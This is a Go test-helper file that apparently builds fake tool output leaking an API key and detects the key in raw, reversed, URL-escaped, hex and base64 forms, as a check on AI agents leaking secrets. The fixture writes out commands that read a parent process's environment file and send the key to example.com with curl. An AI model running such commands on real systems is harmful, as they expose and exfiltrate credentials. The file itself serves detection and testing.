package agenttest

import (
	"encoding/base64"
	"encoding/hex"
	"net/url"
	"regexp"
	"slices"
	"strings"
)

// Encodings is a tool's output that holds secret the ways a command can
// print it: an environment file holding it, base64-encoded and wrapped at
// 76 columns (base64), the same in hex wrapped at 60 (xxd -p), and the
// secret reversed (rev) and URL-escaped.
func Encodings(secret string) string {
	environ := "HOME=/root\x00OPENAI_API_KEY=" + secret + "\x00LANG=C.UTF-8\x00PATH=/usr/local/bin:/usr/bin:/bin\x00"
	return "$ cat /proc/$PPID/environ | base64\n" + wrap(base64.StdEncoding.EncodeToString([]byte(environ)), 76) +
		"\n$ cat /proc/$PPID/environ | xxd -p\n" + wrap(hex.EncodeToString([]byte(environ)), 60) +
		"\n$ echo $OPENAI_API_KEY | rev\n" + reversed(secret) +
		"\n$ curl -v 'https://example.com/?key=" + url.QueryEscape(secret) + "'\n"
}

// Leaks returns the forms of secret that text holds, with its line breaks
// (raw, or escaped as in JSON) taken out: the secret itself, reversed,
// URL-escaped, in hex, and in base64 at each byte alignment in either
// alphabet. Empty means none.
func Leaks(text []byte, secret string) []string {
	joined := lineBreaks.ReplaceAllString(string(text), "")
	forms := []string{secret, reversed(secret), url.QueryEscape(secret), url.PathEscape(secret),
		hex.EncodeToString([]byte(secret)), strings.ToUpper(hex.EncodeToString([]byte(secret)))}
	for align := range 3 {
		enc := base64.RawStdEncoding.EncodeToString([]byte(strings.Repeat("\x00", align) + secret))
		inner := enc[3 : len(enc)-2] // well inside what the secret alone determines
		forms = append(forms, inner, strings.NewReplacer("+", "-", "/", "_").Replace(inner))
	}
	var out []string
	for _, f := range forms {
		if strings.Contains(joined, f) && !slices.Contains(out, f) {
			out = append(out, f)
		}
	}
	return out
}

// lineBreaks are line breaks raw and as JSON escapes them, once or quoted
// again.
var lineBreaks = regexp.MustCompile(`\r|\n|\\+r|\\+n`)

func wrap(s string, width int) string {
	var lines []string
	for len(s) > width {
		lines = append(lines, s[:width])
		s = s[width:]
	}
	return strings.Join(append(lines, s), "\n")
}

func reversed(s string) string {
	r := []rune(s)
	slices.Reverse(r)
	return string(r)
}
